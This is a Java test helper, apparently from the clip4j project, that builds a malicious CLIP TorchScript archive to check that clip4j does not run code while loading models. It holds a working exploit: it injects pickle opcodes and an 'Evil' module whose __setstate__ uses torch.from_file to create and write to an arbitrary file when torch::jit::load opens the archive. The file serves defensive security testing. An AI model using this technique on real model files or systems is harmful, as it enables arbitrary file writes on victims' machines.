package dev.clip4j.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Enumeration;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;

/**
 * Builds the attack the security review found: a valid CLIP TorchScript archive (the tiny ViT fixture) with one more
 * submodule, {@code evil}, whose TorchScript {@code __setstate__} opens {@code target} through
 * {@code torch.from_file(path, shared=True, size)} — which creates the file and maps it read-write — and writes bytes
 * into it. {@code torch::jit::load} runs that method while deserialising; clip4j must not.
 */
public final class CraftedTorchScript {
    private CraftedTorchScript() {}

    public static void write(Path cleanArchive, Path out, Path target) throws IOException {
        try (ZipFile in = new ZipFile(cleanArchive.toFile());
             ZipOutputStream zos = new ZipOutputStream(Files.newOutputStream(out))) {
            String root = null;
            for (Enumeration<? extends ZipEntry> e = in.entries(); e.hasMoreElements(); ) {
                String n = e.nextElement().getName();
                if (n.endsWith("/data.pkl") && n.indexOf('/') == n.lastIndexOf('/')) root = n.substring(0, n.indexOf('/'));
            }
            for (Enumeration<? extends ZipEntry> e = in.entries(); e.hasMoreElements(); ) {
                ZipEntry z = e.nextElement();
                byte[] data;
                try (InputStream is = in.getInputStream(z)) {
                    data = is.readAllBytes();
                }
                if (z.getName().equals(root + "/data.pkl")) data = withEvilAttribute(data);
                if (z.getName().equals(root + "/code/__torch__/clip/model.py")) {
                    String src = new String(data, StandardCharsets.UTF_8);
                    // declare the new attribute's type on CLIP, first thing after the class line
                    src = src.replaceFirst("class CLIP\\(Module\\):\n", "class CLIP(Module):\n  evil : __torch__.Evil\n");
                    data = src.getBytes(StandardCharsets.UTF_8);
                }
                PickleWriter.stored(zos, z.getName(), data);
            }
            PickleWriter.stored(zos, root + "/code/__torch__.py", evilClass(target).getBytes(StandardCharsets.UTF_8));
        }
    }

    /** A TorchScript class whose __setstate__ writes "#!/bin/sh\n" into {@code target}. */
    static String evilClass(Path target) {
        String path = target.toAbsolutePath().toString().replace("\\", "\\\\").replace("\"", "\\\"");
        return "class Evil(Module):\n"
                + "  __parameters__ = []\n"
                + "  __buffers__ = []\n"
                + "  training : bool\n"
                + "  _is_full_backward_hook : Optional[bool]\n"
                + "  def __getstate__(self: __torch__.Evil) -> Tuple[bool]:\n"
                + "    return (self.training,)\n"
                + "  def __setstate__(self: __torch__.Evil,\n"
                + "    state: Tuple[bool]) -> None:\n"
                + "    t = torch.from_file(\"" + path + "\", True, 16, dtype=0)\n"
                + "    _0 = torch.fill_(t, 35)\n"
                // read the mapped bytes back, so the compiler cannot drop the write as dead code
                + "    self.training = bool(torch.gt(torch.sum(t), 0))\n"
                + "    return None\n";
    }

    /**
     * Inserts {@code 'evil': Evil() with state (True,)} into the root module's attribute dict: the pickle starts
     * {@code PROTO 2, GLOBAL '__torch__.clip.model CLIP', BINPUT, EMPTY_TUPLE, NEWOBJ, EMPTY_DICT, MARK}; the new
     * items go right after that MARK and use no memo slots, so every later BINGET still points where it did.
     */
    static byte[] withEvilAttribute(byte[] pkl) {
        int mark = -1;
        for (int i = 0; i + 1 < pkl.length; i++) {
            if (pkl[i] == '}' && pkl[i + 1] == '(') {
                mark = i + 2;
                break;
            }
        }
        if (mark < 0) throw new IllegalStateException("unexpected data.pkl layout");
        ByteArrayOutputStream items = new ByteArrayOutputStream();
        byte[] key = "evil".getBytes(StandardCharsets.US_ASCII);
        items.write('X');
        items.write(key.length);
        items.write(0);
        items.write(0);
        items.write(0);
        items.writeBytes(key);
        items.writeBytes("c__torch__\nEvil\n".getBytes(StandardCharsets.US_ASCII)); // GLOBAL
        items.write(')'); // EMPTY_TUPLE
        items.write(0x81); // NEWOBJ
        items.write(0x88); // NEWTRUE
        items.write(0x85); // TUPLE1
        items.write('b'); // BUILD
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(pkl, 0, mark);
        out.writeBytes(items.toByteArray());
        out.write(pkl, mark, pkl.length - mark);
        return out.toByteArray();
    }

    /** For the record in docs/SECURITY.md: {@code java ... CraftedTorchScript fixture.pt out.pt target}. */
    public static void main(String[] args) throws IOException {
        write(Path.of(args[0]), Path.of(args[1]), Path.of(args[2]));
        try (OutputStream o = System.out) {
            o.write(("wrote " + args[1] + "\n").getBytes(StandardCharsets.UTF_8));
        }
    }
}
